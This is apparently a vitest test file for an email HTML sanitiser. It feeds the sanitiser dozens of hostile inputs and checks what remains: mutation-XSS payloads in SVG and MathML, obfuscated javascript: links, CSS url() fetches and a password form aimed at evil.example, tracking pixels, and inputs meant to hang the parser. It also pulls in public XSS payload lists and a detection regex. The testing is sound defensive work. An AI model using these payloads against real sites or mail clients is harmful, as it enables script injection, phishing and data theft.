import { pathToFileURL } from 'node:url'
import { describe, expect, test } from 'vitest'
import { corpus, corpusText } from '../testing/corpora.ts'
import type { Sources } from './clean.ts'
import { clean } from './clean.ts'

const OWN = 'https://hub.example/f/a/logo'
const sources = (shown: boolean): Sources => ({
  own: (cid) => (cid === 'logo@shop' ? OWN : undefined),
  elsewhere: (url) => (shown ? `https://hub.example/picture?url=${encodeURIComponent(url)}` : undefined),
})
const cleaned = async (html: string, shown = false) => (await clean(html, sources(shown))).html

/** What a stranger may write, and what is left of it. */
const HOSTILE: [what: string, html: string, left: string][] = [
  ['a script', 'a<script>alert(1)</script>b', 'ab'],
  ['a script in half a tag', '<scr<script>ipt>alert(1)</script>b', 'ipt&gt;alert(1)b'],
  ['a handler', '<p onclick="alert(1)" onmouseover=alert(1)>a</p>', '<p>a</p>'],
  ['a picture with a handler', '<img src=x onerror=alert(1)>', '<img />'],
  ['SVG', 'a<svg onload=alert(1)><script>alert(1)</script></svg>b', 'ab'],
  ['MathML', 'a<math><mtext><img src=x onerror=alert(1)></mtext></math>b', 'ab'],
  [
    'markup that changes when it is read again, in SVG',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '',
  ],
  [
    'the same in MathML',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '',
  ],
  ['a template', 'a<template><img src=x onerror=alert(1)></template>b', 'ab'],
  ['noscript', 'a<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>b', 'ab'],
  ['a textarea', 'a<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>b', 'a<img />"&gt;b'],
  ['a style sheet', 'a<style>@import "https://evil.example/x.css"; body { display: none }</style>b', 'ab'],
  [
    'a style that fetches',
    '<p style="background:url(https://evil.example/x);color:red">a</p>',
    '<p style="color:red">a</p>',
  ],
  ['the same, written otherwise', '<p style="background:u\\72l(https://evil.example/x)">a</p>', '<p>a</p>'],
  ['an image set', '<p style="background:image-set(\'https://evil.example/x\' 1x)">a</p>', '<p>a</p>'],
  ['a style that runs', '<p style="width:expression(alert(1))">a</p>', '<p>a</p>'],
  [
    'a layer over everything',
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9;color:red">Sign in</div>',
    '<div style="width:100%;height:100%;color:red">Sign in</div>',
  ],
  ['something moved over something else', '<p style="margin-top:-90px;transform:translate(0,-9em)">a</p>', '<p>a</p>'],
  [
    'a form',
    '<form action="https://evil.example"><input name="password" type="password"><button>Go</button></form>a',
    'a',
  ],
  ['a page that leads on', '<meta http-equiv="refresh" content="0;url=https://evil.example">a', 'a'],
  ['another base', '<base href="https://evil.example/"><a href="x">a</a>', link('', 'a')],
  ['a style sheet elsewhere', '<link rel="stylesheet" href="https://evil.example/x.css">a', 'a'],
  ['a frame', '<iframe src="https://evil.example" srcdoc="<script>alert(1)</script>"></iframe>a', 'a'],
  ['an object', '<object data="https://evil.example"><embed src="https://evil.example"></object>a', 'a'],
  ['a script in a link', '<a href="javascript:alert(1)">a</a>', link('', 'a')],
  ['the same in entities', '<a href="&#106;avascript&colon;alert(1)">a</a>', link('', 'a')],
  ['the same with tabs', '<a href="java\tscr\nipt:alert(1)">a</a>', link('', 'a')],
  ['the same behind a control character', '<a href="\u0001javascript:alert(1)">a</a>', link('', 'a')],
  ['a page in a link', '<a href="data:text/html,<script>alert(1)</script>">a</a>', link('', 'a')],
  ['a link into the hub', '<a href="/v1/account">a</a>', link('', 'a')],
  [
    'a link that keeps its opener',
    '<a href="https://x.example" target="_top" rel="opener">a</a>',
    link('https://x.example', 'a'),
  ],
  ['a page as a picture', '<img src="data:text/html,<script>alert(1)</script>">', '<img />'],
  ['SVG as a picture', '<img src="data:image/svg+xml;base64,PHN2Zz4=">', '<img />'],
  ['pictures for every screen', '<img srcset="https://evil.example/x 2x" alt="a">', '<img alt="a" />'],
  ['a picture in the background', '<td background="https://evil.example/x">a</td>', '<td>a</td>'],
  ['somebody else’s file', '<img src="cid:other@shop">', '<img />'],
  ['cid with a script', '<img src="cid:logo@shop&quot; onerror=&quot;alert(1)">', '<img />'],
  [
    'names that hide others',
    '<img name="body" id="cookie"><a id="x" name="attributes">a</a>',
    `<img />${link('', 'a')}`,
  ],
  ['classes of ours', '<div class="card" data-x="1">a</div>', '<div>a</div>'],
  ['a comment that ends early', '<!--><img src=x onerror=alert(1)>-->a', '<img />--&gt;a'],
  ['a comment for old programs', '<!--[if mso]><script>alert(1)</script><![endif]-->a', 'a'],
]

function link(href: string, words: string): string {
  const leads = href ? ` href="${href}"` : ''
  return `<a rel="noopener noreferrer nofollow" target="_blank"${leads}>${words}</a>`
}

/** Within tags: what no mail needs and every trick does. */
const DANGEROUS =
  /<\/?(?:script|svg|math|iframe|object|embed|form|input|button|link|meta|base|template|noscript|textarea|style|video|audio)\b|\s(?:on\w+|srcset|srcdoc|formaction|background|id|name|class)\s*=|(?:java|vb)script:|data:text|url\(|expression\(|position\s*:/i

describe('of a stranger’s HTML', () => {
  test.each(HOSTILE)('%s is gone', async (_, html, left) => {
    const found = await cleaned(html, true)
    expect(sorted(found)).toBe(sorted(left))
  })

  test('what the table leaves is left again: cleaning what is clean changes nothing', async () => {
    for (const [what, html] of HOSTILE) {
      const once = await cleaned(html)
      expect([what, sorted(await cleaned(once))]).toEqual([what, sorted(once)])
    }
  })

  /** `TEST_CORPORA` may name a folder with what others try; without it these are ours alone. */
  const payloads = async (): Promise<string[]> => {
    const theirs = corpusText('cure53/DOMPurify', 'test/fixtures/expect.mjs') === undefined ? [] : await ofDomPurify()
    const lists = corpus('swisskyrepo/PayloadsAllTheThings', 'XSS Injection/Intruders', /\.txt$/)
    return [
      ...HOSTILE.map(([, html]) => html),
      ...theirs,
      ...lists.flatMap(({ bytes }) => bytes.toString().split('\n')),
    ]
  }
  const ofDomPurify = async (): Promise<string[]> => {
    const file = `${process.env.TEST_CORPORA}/cure53/DOMPurify/test/fixtures/expect.mjs`
    const { default: cases } = (await import(pathToFileURL(file).href)) as { default: { payload: string }[] }
    return cases.map(({ payload }) => payload)
  }

  test('nothing that runs, loads or hides is left of any of them', async () => {
    for (const payload of await payloads()) {
      const left = await cleaned(payload, true)
      const tags = left.match(/<\/?[a-z][^>]*>/gi)?.join('\n') ?? ''
      expect([payload, tags.match(DANGEROUS)]).toEqual([payload, null])
    }
  })

  test('tables, colours and links stay as they were written', async () => {
    const html =
      '<table width="600" cellpadding="0" align="center"><tr><td bgcolor="#eeeeee" style="padding:8px 16px;font-family:Arial, sans-serif;color:rgb(10, 20, 30)"><b>Hello</b></td></tr></table>'
    const left = await cleaned(html)
    for (const kept of [
      'width="600"',
      'bgcolor="#eeeeee"',
      'padding:8px 16px',
      'font-family:Arial, sans-serif',
      'color:rgb(10, 20, 30)',
      '<b>Hello</b>',
    ])
      expect(left).toContain(kept)
  })

  test('its own pictures come from the files of its message', async () => {
    expect(await cleaned('<img src="cid:logo%40shop" alt="Logo">')).toContain(`src="${OWN}"`)
    expect(await cleaned('<img src="data:image/png;base64,iVBORw0KGgo=">')).toContain('src="data:image/png;base64,')
  })

  test('pictures that lie elsewhere are counted, and shown through us and only when asked for', async () => {
    const html = '<img src="https://cdn.example/a.png?x=1&amp;y=2" alt="Shoes"><img src="//cdn.example/b.png">'
    expect(await clean(html, sources(false))).toEqual({ html: '<img alt="Shoes" /><img />', elsewhere: 2 })
    const shown = await clean(html, sources(true))
    expect(shown.html).toContain(encodeURIComponent('https://cdn.example/a.png?x=1&y=2'))
    expect(shown.html).toContain(encodeURIComponent('https://cdn.example/b.png'))
    expect(shown.html).not.toContain('src="https://cdn.example')
  })

  test.each([
    ['by its size', '<img src="https://evil.example/p.gif" width="1" height="1">'],
    ['by its style', '<img src="https://evil.example/p.gif" style="width:1px;height:1px">'],
    ['hidden', '<img src="https://evil.example/p.gif" style="display: none">'],
  ])('a pixel nobody can see is never loaded: %s', async (_, html) => {
    expect(await clean(html, sources(true))).toMatchObject({ html: expect.not.stringContaining('evil'), elsewhere: 0 })
  })

  test('a mail that nests a little too deep keeps its words; far too deep it is not shown', async () => {
    expect(await cleaned(`${'<div>'.repeat(300)}deep${'</div>'.repeat(300)}`)).toMatch(/^(<div>)+deep(<\/div>)+$/)
    expect(await cleaned(`${'<div>'.repeat(2_000)}deep`)).toContain('nests deeper than any program writes')
  })

  test.each([
    ['tags in tags that end elsewhere', '<b title="</b>"></i>'.repeat(50_000)],
    ['tags in tags', `${'<b>'.repeat(330_000)}deep`],
    ['tags that never end', '<img '.repeat(50_000)],
    ['a style without an end', `<p style="color:${'rgb('.repeat(20_000)}">words</p>`],
    ['entities', '&#x6a;'.repeat(100_000)],
  ])('%s keep nobody waiting', async (_, html) => {
    const begun = performance.now()
    await cleaned(html)
    expect(performance.now() - begun).toBeLessThan(5_000)
  })
})

/** The order of attributes says nothing. */
const sorted = (html: string): string =>
  html.replace(/<(\w+)((?:\s+[\w-]+(?:="[^"]*")?)*)(\s*\/?)>/g, (_, tag, attributes: string, end) => {
    const all = (attributes.match(/[\w-]+(?:="[^"]*")?/g) ?? []).sort()
    return `<${[tag, ...all].join(' ')}${end}>`
  })
